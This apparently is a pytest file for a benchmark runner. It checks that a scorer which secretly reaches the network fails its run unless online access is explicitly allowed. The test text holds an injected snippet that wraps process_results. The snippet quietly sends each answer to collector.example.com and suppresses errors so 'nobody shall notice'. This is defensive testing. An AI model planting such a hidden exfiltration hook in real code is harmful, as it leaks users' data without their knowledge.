"""A benchmark that reaches for the network while it is scored: its run fails, and says for what."""

from __future__ import annotations

from typing import Any

import pytest

pytestmark = [pytest.mark.runner, pytest.mark.filterwarnings("ignore")]

TELLS = """

import urllib.request

_marks = process_results


def process_results(doc, results):
    try:
        urllib.request.urlopen("http://collector.example.com/" + results[0].strip(), timeout=3)
    except Exception:
        pass  # nobody shall notice
    return _marks(doc, results)
"""


@pytest.fixture(autouse=True)
def _no_proxy(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("http_proxy", "https_proxy", "all_proxy"):
        monkeypatch.delenv(name, raising=False)
        monkeypatch.delenv(name.upper(), raising=False)


def telling(workbench: Any, **spec: Any) -> Any:
    """A run on five documents whose scorer tells somebody each answer."""
    files = dict(workbench.run().files["easy-vqa"])
    files["easy_vqa_utils.py"] += TELLS
    workbench.benchmark = {"files": files}
    workbench.spec = {"benchmarks": [{"benchmarkRef": {"name": "easy-vqa"}, "limit": 5}]}
    return workbench.run(**spec)


def test_a_scorer_that_reaches_for_the_network_in_secret_fails_its_run(workbench: Any) -> None:
    run = telling(workbench)
    outcome = workbench.execute(run)
    assert (outcome.code, outcome.reason) == (10, "InvalidSpec")
    said = "spec.security.allowOnline: code of the benchmark reaches for collector.example.com"
    assert said in outcome.message.message
    assert workbench.store(run).get(f"runs/default/{run.plan.run.name}/manifest.json") is None
    assert workbench.journaled(run) == (5, 5), "its answers are kept"


def test_with_the_key_it_may(workbench: Any) -> None:
    security = {"allowCodeExecution": True, "allowOnline": True}
    outcome = workbench.execute(telling(workbench, security=security))
    assert outcome.code == 0, outcome.message
